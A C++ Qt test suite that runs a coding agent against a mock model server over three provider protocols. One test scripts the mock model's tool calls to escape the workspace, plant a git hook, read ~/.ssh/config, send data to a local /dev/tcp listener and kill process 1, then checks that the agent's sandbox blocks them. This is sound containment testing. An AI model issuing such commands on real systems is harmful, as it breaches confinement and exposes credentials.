// Goal runs with a model server of others: aimock, in the three languages that Spettro speaks. What the requests are
// is judged by the types of the makers' own packages.

#include "tests/support/HostServer.h"
#include "tests/support/OperatorHome.h"
#include "tests/support/PeerModel.h"

#include <QDir>
#include <QFile>
#include <QTest>

using namespace spettro::test;

namespace {

const QStringList Unbounded{"--sandbox", "off", "--permission", "yolo"};
const QStringList Protocols{"openai", "openai-responses", "anthropic"};

// In no request, whatever the mode. The files and commands of these tests do not have them.
constexpr const char *Words[] = {
    "sandbox",         "landlock",       "seccomp",   "confin",  "policy", "policies", "bubblewrap",
    "workspace-write", "read-only mode", "namespace", "ruleset", "isolat", "jail",     "syscall"};

QByteArray wordIn(const QList<Json> &requests)
{
    for (const Json &request : requests) {
        const QByteArray body = QByteArray::fromStdString(request["body"].get<std::string>()).toLower();
        for (const char *word : Words) {
            if (const qsizetype at = body.indexOf(word); at >= 0) {
                return QByteArray(word) + " in ..." + body.mid(std::max<qsizetype>(0, at - 200), 400);
            }
        }
    }
    return {};
}

QList<Json> eventsOf(const RunResult &result)
{
    QList<Json> events;
    for (const QByteArray &line : result.output.split('\n')) {
        const Json event = Json::parse(line.toStdString(), nullptr, false);
        if (event.is_object()) {
            events.append(event);
        }
    }
    return events;
}

qsizetype countOf(const RunResult &result, const char *event, const char *member, const std::string &value)
{
    const QList<Json> events = eventsOf(result);
    return std::count_if(events.begin(), events.end(), [&](const Json &one) {
        return one.value("event", std::string()) == event && one.value(member, std::string()) == value;
    });
}

Json completion()
{
    return Json{{"toolCalls", Json::array({peerCall("goal-complete", {{"summary", "fine"}})})}};
}

/// Reads, fails, waits to be told to go on, edits, tests, commits: every kind of message that requests can hold.
Json work()
{
    const char *const wrong = "        if (text[i] == ' ') {";
    const char *const right = "        const bool isFirst = i == 0 || text[i - 1] == ' ';\n"
                              "        if (isFirst && text[i] != ' ') {";
    Json turns = Json::array();
    turns.push_back({{"content", "I look."},
                     {"reasoning", "The tests first."},
                     {"toolCalls", Json::array({peerCall("file-read", {{"path", "words.cpp"}}),
                                                peerCall("file-read", {{"path", "missing"}}),
                                                peerCall("bash", {{"command", "make test"}})})}});
    turns.push_back({{"content", "I wait for somebody."}});
    turns.push_back(
        {{"content", "I mend it."},
         {"toolCalls",
          Json::array(
              {peerCall("file-edit", {{"path", "words.cpp"}, {"old_string", wrong}, {"new_string", right}}),
               peerCall("bash", {{"command", "make test && git commit -qam 'Count words'"}})})}});
    turns.push_back(completion());
    return Json{{"turns", turns}};
}

/// Two steps that leave a mark each time they are done.
Json steps(const Json &faults)
{
    Json turns = Json::array();
    for (const char *name : {"first", "second"}) {
        const std::string command = std::string("echo ") + name + " >>steps";
        turns.push_back({{"content", std::string("This is the ") + name + " step."},
                         {"toolCalls", Json::array({peerCall("bash", {{"command", command}})})}});
    }
    turns.push_back(completion());
    return Json{{"turns", turns}, {"faults", faults}};
}

} // namespace

class tst_Aimock : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void init();
    void works_data();
    void works();
    void faults_data();
    void faults();
    void givesUp_data();
    void givesUp();
    void hearsNothingOfItsBounds_data();
    void hearsNothingOfItsBounds();
    void requestsHaveTheMakersTypes_data();
    void requestsHaveTheMakersTypes();

private:
    RunResult goal(const PeerModel &model, const QString &provider,
                   const QStringList &flags = WorkspaceOnly) const;
    RunResult here(const QStringList &command) const;
    void prepareProject() const;
    RunResult typeCheck(const QByteArray &statements) const;

    std::unique_ptr<OperatorHome> m_home;
};

void tst_Aimock::initTestCase()
{
    const QStringList missing = missingPackages({"git", "make", "g++"});
    QVERIFY2(missing.isEmpty(), "install: " + missing.join(' ').toUtf8());
    peersPath();
}

void tst_Aimock::init()
{
    m_home = std::make_unique<OperatorHome>();
}

RunResult tst_Aimock::here(const QStringList &command) const
{
    RunOptions options;
    options.environment = m_home->environment();
    options.environment.remove("BASH_ENV"); // unconfined, it would be taken as it is
    options.folder = m_home->workspace();
    options.timeLimit = 120'000;
    return run(command, options);
}

RunResult tst_Aimock::goal(const PeerModel &model, const QString &provider, const QStringList &flags) const
{
    return here(QStringList{spettroPath(), "--goal", "Make the test pass and commit that", "--provider",
                            provider, "--base-url", model.url(), "--model", "m", "--json"}
                + flags);
}

void tst_Aimock::prepareProject() const
{
    for (const char *name : {"Makefile", "test.cpp", "words.cpp", "words.h"}) {
        writeFile(m_home->workspace(name), contentOf(QString(":/project/") + name));
    }
    const RunResult made = here(shell("git init -q && git add . && git commit -qm first"));
    QVERIFY2(made.exitCode == 0, describe(made));
}

void tst_Aimock::works_data()
{
    QTest::addColumn<QString>("provider");
    for (const QString &provider : Protocols) {
        QTest::newRow(qPrintable(provider)) << provider;
    }
}

/// The network of the commands is `none`, and the model is reached. The host judges what was done.
void tst_Aimock::works()
{
    QFETCH(QString, provider);
    prepareProject();
    QVERIFY(here({"make", "test"}).exitCode != 0);
    const PeerModel model(m_home->folder(), work());
    const RunResult result = goal(model, provider);
    QVERIFY2(result.exitCode == 0, describe(result));
    const RunResult tests = here({"make", "-B", "test"});
    QVERIFY2(tests.exitCode == 0 && tests.output.contains("0 failed"), describe(tests));
    QCOMPARE(here({"git", "log", "--format=%s"}).output, QByteArray("Count words\nfirst\n"));
    QCOMPARE(model.requests().size(), 4);
    for (const char *text : {"I look.", "I wait for somebody.", "I mend it."}) {
        QCOMPARE(countOf(result, "text", "text", text), 1);
    }
    QVERIFY2(wordIn(model.requests()).isEmpty(), wordIn(model.requests()));
}

void tst_Aimock::faults_data()
{
    QTest::addColumn<QString>("provider");
    QTest::addColumn<QByteArray>("fault");
    QTest::addColumn<int>("requests");
    const std::pair<const char *, const char *> faults[] = {
        {"dropped with 500", R"({"kind":"drop"})"},
        {"malformed", R"({"kind":"malformed"})"},
        {"disconnected", R"({"kind":"disconnect"})"},
        {"429 with retry-after", R"({"kind":"error","status":429,"retryAfter":1,"type":"rate_limit_error"})"},
        {"529", R"({"kind":"error","status":529,"type":"overloaded_error"})"},
        {"cut after three pieces", R"({"kind":"truncate"})"},
        {"broken in the middle", R"({"kind":"break"})"},
    };
    for (const QString &provider : Protocols) {
        for (const auto &[name, fault] : faults) {
            QTest::newRow(qPrintable(provider + ": " + name)) << provider << QByteArray(fault) << 4;
        }
        QTest::newRow(qPrintable(provider + ": slow")) << provider << QByteArray(R"({"kind":"slow"})") << 3;
    }
}

/// The second answer goes wrong once. Nothing is said or done twice.
void tst_Aimock::faults()
{
    QFETCH(QString, provider);
    QFETCH(QByteArray, fault);
    QFETCH(int, requests);
    const PeerModel model(m_home->folder(), steps({{"1", Json::parse(fault.toStdString())}}));
    const RunResult result = goal(model, provider);
    QVERIFY2(result.exitCode == 0, describe(result));
    QCOMPARE(contentOf(m_home->workspace("steps")), QByteArray("first\nsecond\n"));
    QCOMPARE(countOf(result, "text", "text", "This is the first step."), 1);
    QCOMPARE(countOf(result, "text", "text", "This is the second step."), 1);
    const QList<Json> sent = model.requests();
    QCOMPARE(sent.size(), requests);
    if (requests == 4) {
        QVERIFY2(sent[1] == sent[2], "the second try asks something else");
    }
    QVERIFY2(wordIn(sent).isEmpty(), wordIn(sent));
}

void tst_Aimock::givesUp_data()
{
    QTest::addColumn<QString>("provider");
    QTest::addColumn<QByteArray>("fault");
    QTest::addColumn<QByteArray>("words");
    QTest::addColumn<int>("requests");
    for (const QString &provider : Protocols) {
        const auto row = [&](const char *name, const char *fault, const char *words, int requests) {
            QTest::newRow(qPrintable(provider + ": " + name))
                << provider << QByteArray(fault) << QByteArray(words) << requests;
        };
        row("wrong key",
            R"({"kind":"error","status":401,"message":"no such key","type":"authentication_error"})",
            "no such key", 1);
        row("far too many requests",
            R"({"kind":"error","status":429,"retryAfter":3600,"message":"slow down","type":"rate_limit_error"})",
            "3600 s", 1);
    }
    // Half a minute of waiting, so once and not in each language.
    QTest::newRow("out of order for good")
        << Protocols.first() << QByteArray(R"({"kind":"error","status":500,"message":"broken"})")
        << QByteArray("broken") << 6;
}

void tst_Aimock::givesUp()
{
    QFETCH(QString, provider);
    QFETCH(QByteArray, fault);
    QFETCH(QByteArray, words);
    QFETCH(int, requests);
    const PeerModel model(m_home->folder(), steps({{"all", Json::parse(fault.toStdString())}}));
    const RunResult result = goal(model, provider);
    QVERIFY2(result.exitCode == 1, describe(result));
    QVERIFY2(countOf(result, "end", "result", "failed") == 1, describe(result));
    QVERIFY2(result.output.contains(words), describe(result));
    QVERIFY(!exists(m_home->workspace("steps")));
    QCOMPARE(model.requests().size(), requests);
}

void tst_Aimock::hearsNothingOfItsBounds_data()
{
    QTest::addColumn<QString>("provider");
    QTest::addColumn<QStringList>("flags");
    QTest::addColumn<bool>("isBounded");
    const std::pair<const char *, QStringList> modes[] = {
        {"workspace", WorkspaceOnly},
        {"reading", {"--sandbox", "read-only", "--sandbox-net", "none"}},
        {"loopback", {"--sandbox", "workspace-write", "--sandbox-net", "localhost"}},
        {"off", Unbounded},
    };
    for (const QString &provider : Protocols) {
        for (const auto &[name, flags] : modes) {
            QTest::newRow(qPrintable(provider + ": " + name)) << provider << flags << (flags != Unbounded);
        }
    }
}

/// Everything that is refused somewhere, and the words for it that reach the model.
void tst_Aimock::hearsNothingOfItsBounds()
{
    QFETCH(QString, provider);
    QFETCH(QStringList, flags);
    QFETCH(bool, isBounded);
    const HostServer stranger(HostServer::Kind::Tcp4);
    writeFile(m_home->workspace("file"), "one\n");
    QVERIFY(here({"git", "init", "-q"}).exitCode == 0);
    const auto bash = [](const std::string &command) { return peerCall("bash", {{"command", command}}); };
    const Json calls = Json::array({
        peerCall("file-write", {{"path", "../outside/new"}, {"content", "x"}}),
        peerCall("file-read", {{"path", "../outside/canary"}}),
        peerCall("file-write", {{"path", ".git/hooks/post-checkout"}, {"content", "x"}}),
        peerCall("file-write", {{"path", "new"}, {"content", "x"}}),
        peerCall("file-edit", {{"path", "file"}, {"old_string", "one"}, {"new_string", "two"}}),
        peerCall("ls", {{"path", "../outside"}}),
        peerCall("no-such-tool", Json::object()),
        peerCall("file-read", {{"path", 7}}),
        bash("echo x >../outside/new; echo x >mine; exit 3"),
        bash("cat ../outside/canary ~/.ssh/config; ls -a ~"),
        bash("echo stolen >/dev/tcp/127.0.0.1/" + std::to_string(stranger.port())),
        bash("env; ulimit -a; kill -9 1 2>&1 | head -c 200; id"),
        bash("nonesuch"),
    });
    Json turns = Json::array({Json{{"content", "I try."}, {"toolCalls", calls}}, completion()});
    const PeerModel model(m_home->folder(), Json{{"turns", turns}});
    const RunResult result = goal(model, provider, flags);
    QVERIFY2(result.exitCode == 0, describe(result));
    const QList<Json> sent = model.requests();
    QCOMPARE(sent.size(), 2);
    QVERIFY2(wordIn(sent).isEmpty(), wordIn(sent));
    QCOMPARE(exists(m_home->fixture().outside("new")), !isBounded);
    QVERIFY2(isBounded ? stranger.isSilent() : stranger.hears("stolen"), stranger.received());
}

/// `tsc` over statements that may use the three types.
RunResult tst_Aimock::typeCheck(const QByteArray &statements) const
{
    const QString folder = m_home->folder() + "/types";
    QDir().mkpath(folder);
    QFile::link(peersPath(), folder + "/node_modules");
    writeFile(
        folder + "/wire.ts",
        "import type OpenAI from 'openai';\nimport type Anthropic from '@anthropic-ai/sdk';\n"
        // Servers that are not OpenAI's own send this field and want it back; nothing else is let through.
        "type Assistant = OpenAI.Chat.ChatCompletionAssistantMessageParam & { reasoning_content?: string };\n"
        "type Chat = Omit<OpenAI.Chat.ChatCompletionCreateParamsStreaming, 'messages'> & {\n"
        "  messages: (OpenAI.Chat.ChatCompletionMessageParam | Assistant)[] };\n"
        "type Responses = OpenAI.Responses.ResponseCreateParamsStreaming;\n"
        "type Messages = Anthropic.MessageCreateParamsStreaming;\n"
            + statements);
    RunOptions options;
    options.folder = folder;
    options.timeLimit = 240'000;
    return run({"node", peersPath() + "/typescript/bin/tsc", "--noEmit", "--strict", "--skipLibCheck",
                "--target", "es2022", "--module", "esnext", "--moduleResolution", "bundler", "wire.ts"},
               options);
}

void tst_Aimock::requestsHaveTheMakersTypes_data()
{
    QTest::addColumn<QString>("provider");
    QTest::addColumn<QByteArray>("type");
    QTest::newRow("openai") << "openai" << QByteArray("Chat");
    QTest::newRow("openai-responses") << "openai-responses" << QByteArray("Responses");
    QTest::newRow("anthropic") << "anthropic" << QByteArray("Messages");
}

void tst_Aimock::requestsHaveTheMakersTypes()
{
    QFETCH(QString, provider);
    QFETCH(QByteArray, type);
    prepareProject();
    const PeerModel model(m_home->folder(), work());
    const RunResult result = goal(model, provider);
    QVERIFY2(result.exitCode == 0, describe(result));
    QByteArray statements;
    for (const Json &request : model.requests()) {
        statements += "export const b" + QByteArray::number(statements.size()) + ": " + type + " = "
                      + QByteArray::fromStdString(request["body"].get<std::string>()) + ";\n";
    }
    QVERIFY(statements.count("export const") == 4);
    const RunResult checked = typeCheck(statements);
    QVERIFY2(checked.exitCode == 0, describe(checked));

    // The control: a name too many, a value of another type, and a role that there is not, each seen.
    Json body = Json::parse(model.requests().last()["body"].get<std::string>());
    Json excess = body;
    excess["temprature"] = 1;
    Json wrong = body;
    wrong["model"] = 7;
    Json deep = body;
    deep[type == "Responses" ? "input" : "messages"][0] = {{"role", "nobody"}, {"content", "x"}};
    QByteArray controls;
    for (const Json &bad : {excess, wrong, deep}) {
        // An error that is expected and does not come is one itself.
        controls += "// @ts-expect-error\nexport const c" + QByteArray::number(controls.size()) + ": " + type
                    + " = " + QByteArray::fromStdString(bad.dump()) + ";\n";
    }
    const RunResult control = typeCheck(controls);
    QVERIFY2(control.exitCode == 0, describe(control));
}

QTEST_GUILESS_MAIN(tst_Aimock)

#include "tst_aimock.moc"
